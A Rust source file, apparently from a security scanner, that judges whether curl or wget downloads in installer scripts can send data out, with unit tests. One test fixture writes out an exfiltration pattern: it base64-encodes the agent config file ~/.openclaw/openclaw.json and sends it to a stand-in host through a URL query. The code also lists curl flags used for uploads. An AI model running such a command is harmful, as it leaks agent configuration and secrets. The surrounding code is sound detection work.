//! A download into a file carries nothing the file read (round 37b, sets37b).
//!
//! An installer reads the agent's folders to see which agents are installed (`[ -d
//! "$HOME/.openclaw" ]`) and downloads a release archive into a temporary file (`curl -fsSL
//! "$TARBALL_URL" -o "$TMP/repo.tar.gz"`). `exfiltration.read-and-send` pairs the two when it
//! cannot follow a value between them. The download sends no body and no upload; the only data
//! that could leave is in its URL. It carries nothing when every variable of the URL is set in the
//! same file to fixed text (literals and other such variables: `REPO_URL="https://…"`,
//! `TARBALL_URL="${REPO_URL}/archive/main.tar.gz"`), nothing on the line runs a command
//! (`$(…)`, backticks), and the response goes to a file (`-o`, `-O`, `--output`).

/// Whether `line` (a `curl`/`wget` command of `content`) downloads a URL made of fixed text into a
/// file and sends nothing.
pub(super) fn fixed_download(line: &str, content: &str) -> bool {
    let l = crate::ascii_lowered(line);
    let t = l.trim_start();
    if !(t.starts_with("curl ") || t.starts_with("wget "))
        || super::sends_body(line)
        || l.contains("$(")
        || l.contains('`')
        || [
            " -t ", "--upload", " -f ", "--form", " -d", "--data", "--post", " -x post", " -x put",
            " -h ", "--header", " -b ", "--cookie", " -u ", "--user",
        ]
        .iter()
        .any(|w| l.contains(w))
    {
        return false;
    }
    let Some(out) = [" -o ", " -o\"", " --output ", " -O "]
        .iter()
        .filter_map(|m| line.find(m))
        .min()
    else {
        return false;
    };
    // Variables before the output argument are the URL's: each must be fixed text.
    vars(&line[..out]).iter().all(|v| fixed(v, content, 0))
}

/// The `$NAME` / `${NAME}` names in `s`.
fn vars(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            let start = if b.get(i + 1) == Some(&b'{') {
                i + 2
            } else {
                i + 1
            };
            let end = s[start..]
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .map_or(s.len(), |e| start + e);
            if end > start {
                out.push(s[start..end].to_string());
            }
            i = end.max(i + 1);
        } else {
            i += 1;
        }
    }
    out
}

/// Whether `name` is assigned in `content`, on every assignment, to fixed text.
fn fixed(name: &str, content: &str, depth: usize) -> bool {
    if depth > 4 {
        return false;
    }
    let mut seen = false;
    for l in content.lines() {
        let t = l.trim_start();
        let t = t.strip_prefix("export ").unwrap_or(t);
        let Some(value) = t.strip_prefix(name).and_then(|r| r.strip_prefix('=')) else {
            continue;
        };
        seen = true;
        let value = value.trim();
        if value.contains("$(") || value.contains('`') {
            return false;
        }
        if !vars(value)
            .iter()
            .all(|v| v != name && fixed(v, content, depth + 1))
        {
            return false;
        }
    }
    seen
}

#[cfg(test)]
mod tests {
    use super::fixed_download;

    #[test]
    fn fixed_downloads_carry_nothing() {
        let file = "REPO_URL=\"https://github.example/o/r\"\nTARBALL_URL=\"${REPO_URL}/archive/main.tar.gz\"\nTMP=$(mktemp -d)\n";
        assert!(fixed_download(
            "    curl -fsSL \"$TARBALL_URL\" -o \"$TMP/repo.tar.gz\" || die \"x\"",
            file
        ));
        // A URL carrying a value read at run time, a header, a body, or no output file.
        let read = "DATA=$(cat ~/.openclaw/openclaw.json | base64)\n";
        assert!(!fixed_download(
            "curl -fsSL \"https://x.example/?d=$DATA\" -o /tmp/r",
            read
        ));
        assert!(!fixed_download(
            "curl -fsSL \"$TARBALL_URL\" -H \"X: $K\" -o /tmp/r",
            file
        ));
        assert!(!fixed_download(
            "curl -fsSL \"$TARBALL_URL\" -d @f -o /tmp/r",
            file
        ));
        assert!(!fixed_download("curl -fsSL \"$TARBALL_URL\"", file));
        assert!(!fixed_download("curl -fsSL \"$UNSET\" -o /tmp/r", file));
    }
}
